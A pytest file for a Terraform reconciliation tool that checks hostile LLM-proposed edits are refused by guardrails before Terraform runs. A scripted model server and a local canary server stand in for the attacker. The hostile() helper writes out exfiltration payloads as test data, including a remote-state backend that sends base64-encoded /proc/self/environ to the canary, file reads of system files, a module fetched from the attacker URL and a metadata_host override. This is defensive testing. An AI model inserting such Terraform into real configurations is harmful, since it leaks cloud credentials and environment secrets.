"""Validation refuses hostile LLM answers on their text, before any Terraform process sees them.

A scripted OpenAI-compatible server answers `reconcile propose` as an attacker would, and a loopback
"canary" HTTP server stands for the attacker's collection point: every answer that would make Terraform
fetch a URL, read the environment, download a module or switch backend, provider or resource is refused
by name at the guardrails step, the canary receives nothing, the workspace and the patch stay clean, and
what goes back to the model carries no secret.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from http.server import ThreadingHTTPServer
from typing import Any

import pytest
from openai_server import OpenAIServer
from sandbox_cloud import Cloud
from sandbox_cloud import cloud

from reconciler.cli import main
from sandbox.az import Az
from sandbox.az import endpoint_for
from sandbox.environment import client_environment

__all__ = ["cloud"]

CLIENT_SECRET = "arm-client-secret-4f9c2e7a"
LLM_KEY = "sk-llm-key-7d3b91c0"
CONFIG = """
resource "azurerm_resource_group" "rg" {
  name     = "guard-rg"
  location = "westeurope"
  tags = {
    env = lower("DEV")
  }
}

resource "azurerm_resource_group" "other" {
  name     = "guard-other-rg"
  location = "westeurope"
  tags = {
    env = "dev"
  }
}
"""
RG_LINE = 'resource "azurerm_resource_group" "rg" {'
ENV_LINE = 'env = lower("DEV")'


class Canary:
    """Counts every request that reaches it, whatever the method or path."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def _hit(self) -> None:
                canary.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"{}")

            do_GET = do_POST = do_PUT = do_HEAD = _hit

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        self.thread = threading.Thread(target=self.http.serve_forever, args=(0.05,), daemon=True)

    def __enter__(self) -> Canary:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.http.shutdown()
        self.http.server_close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    with Canary() as c:
        yield c


def codify(find: str, replace: str) -> dict[str, Any]:
    return {"strategy": "codify", "edits": [{"file": "main.tf", "find": find, "replace": replace}],
            "explanation": "env changed in the portal"}  # fmt: skip


def before_rg(block: str) -> dict[str, Any]:
    return codify(RG_LINE, f"{block}\n\n{RG_LINE}")


def hostile(url: str, provider_block: str) -> list[tuple[str, dict[str, Any]]]:
    """(the rule that must refuse it, the answer), one per way to make Terraform reach out."""
    endpoint = provider_block.replace("features {}", f'features {{}}\n  metadata_host = "{url}"')
    backend = f'terraform {{\n  backend "http" {{\n    address = "{url}/s"\n  }}\n'
    return [
        (
            "static.data_source",
            before_rg(
                'data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n'
                f'    address = "{url}/x?c=${{base64encode(file("/proc/self/environ"))}}"\n  }}\n}}'
            ),
        ),
        ("static.data_source", before_rg(f'data "http" "x" {{\n  url = "{url}/http"\n}}')),
        ("static.function", codify(ENV_LINE, 'env = file("/proc/self/environ")')),
        ("static.function", codify(ENV_LINE, 'env = templatefile("/etc/hostname", {})')),
        ("static.function", codify(ENV_LINE, 'env = join(",", fileset("/", "*"))')),
        ("static.module", before_rg(f'module "x" {{\n  source = "git::{url}/x.git"\n}}')),
        ("static.provider", codify(provider_block, endpoint)),
        ("static.terraform", codify("terraform {\n", backend)),
        ("static.locality", codify('env = "dev"', 'env = "prod"')),
    ]  # fmt: skip


def test_hostile_answers_are_refused_before_terraform_starts(
    cloud: Cloud, canary: Canary, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    ws = cloud.workspace(CONFIG)
    (ws / "reconcile.toml").write_text("[llm]\nmax_attempts = 12\n")
    cloud.tf.apply(ws)
    group = f"/subscriptions/{cloud.subscription}/resourceGroups/guard-rg"
    Az(endpoint_for(cloud.sandbox.url, cloud.subscription, "bob@contoso.com", "portal")).tag_add(
        group, {"env": "prod"}
    )
    main_tf = (ws / "main.tf").read_text()
    provider_block = 'provider "azurerm" {\n  features {}\n}'
    assert main_tf.count(provider_block) == 1
    refusals = hostile(canary.url, provider_block)
    benign = codify(ENV_LINE, 'env = lower("PROD")')

    environ = {
        **client_environment(cloud.sandbox.url, cloud.sandbox.data_dir),
        "ARM_CLIENT_SECRET": CLIENT_SECRET,
    }
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    with OpenAIServer([answer for _, answer in refusals] + [benign], api_key=LLM_KEY) as llm:
        monkeypatch.setenv("RECONCILE_LLM_BASE_URL", llm.base_url)
        monkeypatch.setenv("RECONCILE_LLM_MODEL", "scripted")
        monkeypatch.setenv("RECONCILE_LLM_API_KEY", LLM_KEY)
        assert main(["drift", str(ws), "--format", "json", "--output", str(cloud.root / "drift.json")]) == 2
        out, patch = cloud.root / "proposals.json", cloud.root / "fix.patch"
        code = main(["propose", str(ws), "--format", "json", "--output", str(out), "--patch", str(patch)])
        bodies = llm.bodies()
    logs = capsys.readouterr()

    assert code == 0
    assert canary.requests == []  # nothing reached the attacker, not even once
    [proposal] = json.loads(out.read_text())["proposals"]
    assert proposal["valid"] and proposal["origin"] == "llm"
    attempts = proposal["attempts"][1:]  # after the rules' decline
    assert len(attempts) == len(refusals) + 1 and len(bodies) == len(refusals) + 1
    for (rule, _), attempt in zip(refusals, attempts, strict=False):
        # Refused on its text: no validate or plan step ever ran on it.
        assert [s["name"] for s in attempt["steps"]] == ["apply", "parse", "guardrails"], attempt
        assert not attempt["steps"][-1]["ok"] and rule in attempt["steps"][-1]["detail"]
        assert attempt["steps"][-1]["detail"].split(": ", 2)[2].startswith("main.tf:")
    assert attempts[-1]["ok"]
    # Each refusal went back to the model with the next request.
    for (rule, _), body in zip(refusals, bodies[1:], strict=True):
        assert rule in body
    # Nothing written to the workspace; the patch holds only the benign edit.
    assert (ws / "main.tf").read_text() == main_tf
    diff = patch.read_text()
    assert '+    env = lower("PROD")' in diff
    for trace in (canary.url, "environ", "metadata_host", "backend", "fileset", "templatefile", "module"):
        assert trace not in diff
    # No secret in what the model was sent, in the report or in the logs.
    for text in (*bodies, out.read_text(), logs.out, logs.err):
        assert CLIENT_SECRET not in text and LLM_KEY not in text
